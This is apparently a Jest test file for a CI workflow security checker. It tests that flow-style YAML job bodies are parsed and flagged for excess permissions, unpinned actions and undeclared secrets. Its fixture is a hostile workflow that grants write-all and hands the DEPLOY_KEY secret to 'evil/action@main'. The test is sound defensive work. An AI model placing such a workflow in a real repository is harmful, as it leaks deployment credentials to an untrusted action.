import { describe, expect, it } from '@jest/globals';
import { runCheck } from '../../shared/check/run.js';
import { diffSnapshots } from '../../shared/diff/diff.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { enforceJob } from '../../shared/enforce/verdict.js';
import { resolveAccess } from '../../shared/workflow/access.js';
import { manifest, wf } from '../support/repo.js';

/** Issue 13 §1: a job body written as a flow collection on its own line was read as an empty map. */
const attack = [
  'on: push',
  'jobs:',
  '  build:',
  '    { runs-on: ubuntu-latest, permissions: write-all, steps: [ { uses: evil/action@main, with: { token: "${{ secrets.DEPLOY_KEY }}" } } ] }',
  '',
].join('\n');

describe('workflows written in flow style (issue 13 §1)', () => {
  it('the model reads every key of a flow job body on its own line', () => {
    const m = wf('ci.yml', attack);
    expect(m.error).toBeUndefined();
    const [job] = m.jobs;
    expect(job!.permissions).toMatchObject({ shorthand: 'write-all', line: 4 });
    expect(job!.actions.map((a) => [a.uses, a.line])).toEqual([['evil/action@main', 4]]);
    expect(job!.secrets.map((s) => s.value)).toEqual(['DEPLOY_KEY']);
    const [access] = resolveAccess([m], 'restricted');
    expect(access!.permissions.contents).toBe('write');
    expect(access!.permissions.actions).toBe('write');
  });

  it('the check reports the write-all job, the unpinned action and the undeclared secret', () => {
    const { findings, jobs } = runCheck({
      workflows: [wf('ci.yml', attack)],
      manifest: manifest('version: 1\n'),
    });
    expect(jobs[0]!.permissions).toMatchObject({ contents: 'write', 'id-token': 'write' });
    const rules = new Set(findings.map((f) => f.rule));
    expect(rules).toContain('excess-permission');
    expect(rules).toContain('unpinned-action');
    expect(rules).toContain('undeclared-secret');
    expect(findings.find((f) => f.rule === 'unpinned-action')).toMatchObject({
      subject: 'evil/action@main',
      line: 4,
    });
    expect(findings.filter((f) => f.severity === 'error').length).toBeGreaterThan(0);
  });

  it('the access diff reports the flow-style job as widened, not "0 widened"', () => {
    const base = wf(
      'ci.yml',
      'on: push\njobs:\n  build:\n    permissions: {}\n    steps:\n      - run: echo\n    runs-on: ubuntu-latest\n',
    );
    const changes = diffSnapshots(snapshot([base]), snapshot([wf('ci.yml', attack)]));
    const widened = changes.filter((c) => c.effect === 'widened');
    expect(widened.map((c) => c.kind)).toEqual(expect.arrayContaining(['permission', 'action', 'secret']));
    expect(widened.find((c) => c.kind === 'action')?.subject).toBe('evil/action@main');
    expect(widened.find((c) => c.kind === 'secret')?.subject).toBe('DEPLOY_KEY');
  });

  it('enforce refuses the flow-style job instead of saying allowed', () => {
    const v = enforceJob({
      workflows: [wf('ci.yml', attack)],
      manifest: manifest('version: 1\n'),
      workflow: 'ci.yml',
      job: 'build',
      event: 'push',
    });
    expect(v.allowed).toBe(false);
    expect(v.problems.map((p) => p.rule)).toEqual(
      expect.arrayContaining(['excess-permission', 'unpinned-action', 'undeclared-secret']),
    );
  });

  it('`on:`, steps and `needs` in flow style on their own lines are read too', () => {
    const m = wf(
      'ci.yml',
      'on:\n  { pull_request_target: { branches: [main] } }\njobs:\n  a:\n    steps:\n      - { run: "echo ${{ secrets.A }}" }\n    runs-on: ubuntu-latest\n  b:\n    needs:\n      [a]\n    steps:\n      -\n        { uses: o/r@v1 }\n    runs-on: ubuntu-latest\n',
    );
    expect(m.triggers).toEqual([{ value: 'pull_request_target', line: 2 }]);
    expect(m.jobs[0]!.secrets.map((s) => s.value)).toEqual(['A']);
    expect(m.jobs[1]!.needs).toEqual(['a']);
    expect(m.jobs[1]!.actions.map((a) => [a.uses, a.line])).toEqual([['o/r@v1', 13]]);
  });
});
